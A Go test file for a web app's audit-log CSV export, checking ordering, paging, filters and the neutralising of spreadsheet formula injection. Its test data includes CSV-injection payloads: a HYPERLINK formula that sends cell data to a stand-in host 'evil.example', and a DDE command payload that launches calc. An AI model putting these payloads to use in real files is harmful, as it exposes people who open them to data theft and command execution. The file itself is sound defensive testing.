package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/parleyhq/parley/inbox"
)

// TestAuditCSV exports the log: a header and every matching event newest first, across more
// events than one page of the log (so it is read and sent a page at a time), with the page's
// filters, and with every cell a spreadsheet would take for a formula defused.
func TestAuditCSV(t *testing.T) {
	t.Parallel()
	e := newUIEnv(t)
	admin := e.newUser(t, "admin", inbox.RoleAdmin)
	ctx := context.Background()
	base := e.auditEvents(t, "") // the admin's creation and sign-in
	const n = inbox.MaxAuditPage + 20
	if _, err := e.pool.Exec(ctx, `INSERT INTO audit_log (at, kind, actor, target, source_ip)
		SELECT timestamptz '2026-11-20 12:00Z' + i * interval '1 second', 'signin.failed', 'x' || i || '@example.com', '', '198.51.100.7'
		FROM generate_series(1, $1) i`, n); err != nil {
		t.Fatal(err)
	}
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1)", "\tx"}
	for _, h := range hostile {
		if err := e.store.RecordAudit(ctx, inbox.AuditRecord{Kind: inbox.AuditSignInFailed, Actor: h, Target: "=cmd|' /C calc'!A0",
			SourceIP: "192.0.2.66", Data: map[string]any{"reason": "=1+1"}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.store.RecordAudit(ctx, inbox.AuditRecord{Kind: inbox.AuditRuleChanged, ActorID: admin.agent.ID, Actor: "admin@example.com",
		Target: "rule:1", SourceIP: "192.0.2.1"}); err != nil {
		t.Fatal(err)
	}

	read := func(query string) [][]string {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, e.http.URL+"/admin/audit.csv?"+query, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := admin.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
			!strings.Contains(resp.Header.Get("Content-Disposition"), `attachment; filename="parley-audit-`) {
			t.Fatalf("%s: %d %v", query, resp.StatusCode, resp.Header)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", query, err)
		}
		if len(rows) == 0 || !slices.Equal(rows[0], []string{"id", "at", "kind", "actor_id", "actor", "target", "source_ip", "data"}) {
			t.Fatalf("%s: header %v", query, rows)
		}
		return rows[1:]
	}

	all := read("")
	if len(all) != base+n+len(hostile)+1 {
		t.Fatalf("%d rows, want %d", len(all), base+n+len(hostile)+1)
	}
	if all[0][2] != inbox.AuditRuleChanged || all[0][4] != "admin@example.com" || all[0][3] != i64(admin.agent.ID) || all[0][5] != "rule:1" {
		t.Errorf("newest row %v, want the rule change", all[0])
	}
	if last := all[len(all)-1]; last[4] != "x1@example.com" || last[1] != "2026-11-20T12:00:01Z" || last[6] != "198.51.100.7" {
		t.Errorf("oldest row %v, want x1's failed sign-in", last)
	}
	seen := map[string]bool{}
	for _, r := range all {
		if seen[r[0]] {
			t.Fatalf("id %s exported twice", r[0])
		}
		seen[r[0]] = true
	}

	bad := read("ip=192.0.2.66")
	if len(bad) != len(hostile) {
		t.Fatalf("%d hostile rows, want %d", len(bad), len(hostile))
	}
	for i, r := range bad {
		want := "'" + hostile[len(hostile)-1-i]
		if r[4] != want || r[5] != "'=cmd|' /C calc'!A0" {
			t.Errorf("hostile row %d: actor %q target %q, want %q and a quoted target", i, r[4], r[5], want)
		}
		for j, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t", rune(cell[0])) {
				t.Errorf("hostile row %d cell %d starts a formula: %q", i, j, cell)
			}
		}
	}
	if got := read("kind=rule.*&actor=admin@example.com"); len(got) != 1 || got[0][5] != "rule:1" {
		t.Errorf("filtered export: %v", got)
	}
	if got := read("from=2026-11-21"); len(got) != base+len(hostile)+1 {
		t.Errorf("export from 2026-11-21: %d rows, want %d", len(got), base+len(hostile)+1)
	}
}
